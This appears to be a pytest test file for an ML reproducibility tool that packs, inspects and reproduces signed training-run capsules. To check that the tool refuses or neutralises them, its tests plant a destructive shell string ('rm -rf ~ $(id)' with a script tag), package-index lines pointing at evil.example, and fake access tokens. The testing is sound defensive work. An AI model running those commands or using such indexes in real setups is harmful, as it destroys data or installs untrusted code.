"""Pack, inspect and reproduce as a user types them, with real trainings of a numpy model."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from harness.commands.export import export
from tests.capsule.conftest import forged, packed
from tests.capsule.forge import Forged
from tests.conftest import Ended, Workspace, open_at

__all__ = ["forged", "packed"]  # fixtures

SECRET = "s3cr3t-of-nobody"


def at_a_strangers(folder: Path, *arguments: str, **variables: str) -> Ended:
    """The command line with nothing but a new home: no cache, no configuration, no workspace."""
    home = folder / "home"
    home.mkdir(parents=True, exist_ok=True)
    kept = {name: value for name, value in os.environ.items() if name.startswith(("PIP_", "SSL_", "LANG"))}
    ended = subprocess.run(
        [sys.executable, "-m", "harness", *arguments],
        capture_output=True,
        text=True,
        check=False,
        cwd=folder,
        stdin=subprocess.DEVNULL,
        env={**kept, "HOME": str(home), "PATH": os.environ["PATH"], "NO_COLOR": "1", **variables},
        timeout=500,
    )
    return Ended(ended.returncode, ended.stdout, ended.stderr)


def test_a_stranger_gets_the_same_bits(packed: Path, tmp_path: Path) -> None:
    looked = at_a_strangers(tmp_path, "inspect", str(packed))
    assert looked.returncode == 0, looked.stderr
    assert "every file is intact" in looked.stdout
    assert "numpy-2.4: to be built" in looked.stdout
    asked = at_a_strangers(tmp_path, "reproduce", str(packed), "--into", "place")
    assert asked.returncode == 2
    assert "holds code that somebody else wrote" in asked.stderr
    assert not (tmp_path / "place").exists()
    made = at_a_strangers(tmp_path, "reproduce", str(packed), "--into", "place", "--yes", "--json")
    assert made.returncode == 0, made.stderr
    assert made.json["answer"] == "bit-identical"
    assert [run["unequal"] for run in made.json["runs"]] == [[], []]
    assert {each["kind"] for each in made.json["differences"]} <= {"machine"}
    again = at_a_strangers(tmp_path, "reproduce", str(packed), "--into", "place", "--yes")
    assert again.returncode == 2
    assert "exists and is not empty" in again.stderr
    report = at_a_strangers(tmp_path, "--workspace", "place", "report", "--format", "json")
    assert report.returncode in (0, 4), report.stderr
    parents = [
        json.loads(path.read_text())["parent"]
        for path in sorted((tmp_path / "place").glob(".harness/runs/*/record.json"))
    ]
    assert sorted(parents) == ["", "", *sorted(run["packed"]["id"] for run in made.json["runs"])]


def test_equal_runs_give_equal_bytes(packed: Path, tmp_path: Path) -> None:
    runs = [path.name for path in (packed.parent / ".harness" / "runs").iterdir()]
    workspace = ("--workspace", str(packed.parent))
    other = at_a_strangers(tmp_path, *workspace, "pack", *reversed(runs), "-o", str(tmp_path / "b.zip"), "--json")
    assert other.returncode == 0, other.stderr
    assert (tmp_path / "b.zip").read_bytes() == packed.read_bytes()


def test_with_packages_and_data_it_needs_no_network(packed: Path, tmp_path: Path) -> None:
    run = min(path.name for path in (packed.parent / ".harness" / "runs").iterdir())
    full = tmp_path / "full.zip"
    workspace = ("--workspace", str(packed.parent))
    options = ("--with-wheels", "--with-data", "--with-weights")
    done = at_a_strangers(tmp_path, *workspace, "pack", run, "-o", str(full), *options)
    assert done.returncode == 0, done.stderr
    alone = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": "", "UV_OFFLINE": "1", "https_proxy": "http://127.0.0.1:9"}
    made = at_a_strangers(tmp_path, "reproduce", str(full), "--into", "place", "--yes", "--json", **alone)
    assert made.returncode == 0, made.stderr
    assert made.json["answer"] == "bit-identical"
    weights = tmp_path / "place" / ".harness" / "runs" / run / "weights.safetensors"
    whose = at_a_strangers(tmp_path, "--workspace", "place", "whence", str(weights))
    assert f"run {run} ended in them" in whose.stdout, whose.stderr


def test_a_liar_is_told_apart(forged: Forged, tmp_path: Path) -> None:
    """Somebody improves a number and signs again: what comes out here is something else."""
    record = forged.only("record.json")
    forged.edit(record, lambda said: said["metrics"].update(top1=0.999))
    forged.sign()
    made = at_a_strangers(tmp_path, "reproduce", str(forged.write()), "--into", "place", "--yes", "--json")
    assert made.returncode in (1, 4), made.stderr
    assert made.json["answer"] in ("different", "undecided")
    assert made.json["runs"][0]["unequal"] == ["top1"]


def test_it_is_computed_with_the_kernels_of_the_packed_run(forged: Forged, tmp_path: Path) -> None:
    for name in [name for name in forged.files if name.endswith("record.json")]:
        forged.edit(name, lambda said: said["variables"].update(ONEDNN_MAX_CPU_ISA="AVX2"))
    forged.sign()
    made = at_a_strangers(tmp_path, "reproduce", str(forged.write()), "--into", "place", "--yes", "--json")
    assert "ONEDNN_MAX_CPU_ISA=AVX2" in made.stderr
    assert [each for each in made.json["differences"] if each["kind"] != "machine"] == []


def test_other_data_is_refused(forged: Forged, tmp_path: Path) -> None:
    record = forged.only("record.json")
    run = json.loads(forged.files[record])["id"]
    forged.edit(record, lambda said: said["digests"].update(data="0" * 64))
    runs = json.loads(forged.files["capsule.json"])["runs"]
    number = [each["id"] for each in runs].index(run)
    forged.edit("capsule.json", lambda about: about["runs"][number].update(data="0" * 64))
    forged.sign()
    made = at_a_strangers(tmp_path, "reproduce", str(forged.write()), "--into", "place", "--yes")
    assert made.returncode == 3
    assert "was trained on data with digest 0000" in made.stderr
    assert not (tmp_path / "place").exists()  # so that the same command works once the data is there


@pytest.mark.parametrize("line", ["--index-url https://evil.example/simple", "numpy @ https://evil.example/numpy.whl"])
def test_a_lock_that_looks_elsewhere_is_shown_and_refused(forged: Forged, tmp_path: Path, line: str) -> None:
    forged.spoil(".lock", lambda lock: lock + line.encode() + b"\n")
    forged.sign()
    refused = at_a_strangers(tmp_path, "inspect", str(forged.write()))
    assert refused.returncode == 2  # its digest is no longer that of the runs
    with zipfile.ZipFile(forged.path) as archive:
        place = tmp_path / "shelf"
        for name in archive.namelist():
            if name.startswith("environments/"):
                archive.extract(name, place)
    from harness import environments

    digest = environments.load_environment([place], "numpy-2.4").digest
    for name in [name for name in forged.files if name.endswith("record.json")]:
        forged.edit(name, lambda said: said["digests"].update(environment=digest))
    forged.edit("capsule.json", lambda about: about["environments"][0].update(digest=digest))
    forged.sign()
    made = at_a_strangers(tmp_path, "reproduce", str(forged.write()), "--into", "place", "--yes")
    assert made.returncode == 2
    assert line in made.stderr
    assert "--allow-index" in made.stderr
    assert not (tmp_path / "place").exists()


def test_an_environment_with_another_index_is_shown_and_refused(forged: Forged, tmp_path: Path) -> None:
    forged.spoil("numpy-2.4.toml", lambda toml: b'index = "https://evil.example/simple"\n' + toml)
    forged.sign()
    made = at_a_strangers(tmp_path, "reproduce", str(forged.write()), "--into", "place", "--yes")
    assert made.returncode == 2
    assert "numpy-2.4: https://evil.example/simple" in made.stderr
    assert not (tmp_path / "place").exists()


def test_words_in_it_are_inert(forged: Forged, tmp_path: Path) -> None:
    evil = "\x1b[2J<script>alert(1)</script>; rm -rf ~ $(id)"
    forged.edit("capsule.json", lambda about: about.update(harness=evil))
    forged.edit("verdicts.json", lambda said: said["verdicts"][0].update(sentence=evil))
    forged.sign()
    shown = at_a_strangers(tmp_path, "inspect", str(forged.write()))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout
    assert "<script>" in shown.stdout  # a terminal does nothing with it


def test_no_secret_leaves_the_machine(workspace: Workspace, tmp_path: Path) -> None:
    """Tokens in the environment, the git remote and the store's address: in no file of the run, in no capsule."""
    identity = ("-c", "user.name=x", "-c", "user.email=x@y", "-c", "init.defaultBranch=main")
    folder = workspace.add_toy()
    for words in (("init", "-q"), ("add", "models"), ("commit", "-qm", "x")):
        subprocess.run(["git", *identity, *words], cwd=workspace.root, check=True, capture_output=True)
    address = f"https://me:{SECRET}@host.example/x.git"
    subprocess.run(["git", "remote", "add", "origin", address], cwd=workspace.root, check=True)
    with (folder / "model.toml").open("a") as toml:
        toml.write("# not committed\n")
    planted = {
        "AWS_SECRET_ACCESS_KEY": SECRET, "GITHUB_TOKEN": SECRET, "TF_TOKEN_app_terraform_io": SECRET,
        "TF_VAR_password": SECRET, "TF_CONFIG": SECRET, "TORCH_API_KEY": SECRET,
        "HF_TOKEN": SECRET, "TORCH_HOME": f"/home/{SECRET}",
        "HARNESS_STORE_URL": f"postgresql://me:{SECRET}@127.0.0.1:1/runs",  # nobody answers there
    }  # fmt: skip
    made = workspace.harness("run", "toy", "--max-seeds", "1", **planted)
    assert made.returncode in (0, 4), made.stderr
    [run] = workspace.runs()
    (workspace.state / "exported").mkdir()
    target = tmp_path / "toy.zip"
    done = workspace.harness("pack", run.name, "-o", str(target), **planted)
    assert done.returncode == 0, done.stderr
    assert "not yet in the index" in made.stderr
    assert not any(SECRET in words for ended in (made, done) for words in (ended.stdout, ended.stderr))
    opened = open_at(workspace.root)
    for form in ("mlflow", "tensorboard", "mlperf", "model-card"):
        export(opened, [run.name], form, workspace.state / "exported" / form)
    assert len([path for path in (workspace.state / "exported").rglob("*") if path.is_file()]) > 10
    for path in workspace.state.rglob("*"):
        if path.is_file() and not path.is_relative_to(workspace.state / "environments"):
            assert SECRET.encode() not in path.read_bytes(), path
    with zipfile.ZipFile(target) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    for name, content in contents.items():
        assert SECRET.encode() not in content, name
        assert str(workspace.root).encode() not in content, name
    record = json.loads(contents[f"runs/{run.name}/record.json"])
    assert record["repository"]["remote"] == "https://host.example/x.git"
    assert b"+# not committed" in contents[f"runs/{run.name}/uncommitted.diff"]


def test_what_cannot_be_made_again_is_not_packed(workspace: Workspace, tmp_path: Path) -> None:
    workspace.add_toy("raise")
    workspace.harness("run", "toy", "-r", "bad", "--max-seeds", "1")
    [run] = workspace.runs()
    target = str(tmp_path / "x.zip")
    failed = workspace.harness("pack", run.name, "-o", target)
    assert failed.returncode == 2
    assert "holds no result to be made again" in failed.stderr
    unknown = workspace.harness("pack", "nothing", "-o", target)
    assert unknown.returncode == 2
    assert "no run nothing is stored" in unknown.stderr
    assert not Path(target).exists()
